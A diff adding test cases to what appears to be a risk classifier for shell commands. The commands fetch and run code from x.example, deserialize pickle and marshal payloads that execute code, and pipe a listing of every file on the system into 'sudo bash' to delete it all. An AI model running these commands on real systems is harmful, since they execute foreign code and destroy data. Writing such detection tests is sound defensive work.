@@ -41,6 +41,10 @@ def test_the_level_is_that_of_the_code(place: str) -> None:
         "php -d allow_url_include=1 -r 'include \"http://x.example/x.txt\";'",
         "php -r 'require_once(\"data://text/plain,<?php phpinfo();\");'",
         "node --import=https://x.example/a.mjs a.js",
+        'python3 -c \'import pickle; pickle.loads(b"cos\\nsystem\\n(S\\"id\\"\\ntR.")\'',
+        "python3 -c 'import marshal; exec(marshal.loads(b\"\\x63\"))'",
+        "du -a / | sort -rn | awk '{print \"unlink \" $2}' | sudo bash",
+        "sort f | awk '{ printf \"mv %s x\\n\", $1 }' | sh",
     ],
 )
 def test_code_and_objects_from_elsewhere_are_high(command: str) -> None:
@@ -54,6 +58,7 @@ def test_code_and_objects_from_elsewhere_are_high(command: str) -> None:
         "python3 -c 'import yaml, requests; print(yaml.safe_load(requests.get(\"https://x.example/a\").text))'",
         "php -r 'include \"a.php\";'",
         "sqlite3 a.db '.import a.csv t'",
+        "sort f | awk '{print $2}' | sh",
     ],
 )
 def test_files_and_safe_readers_stay_medium(command: str) -> None:
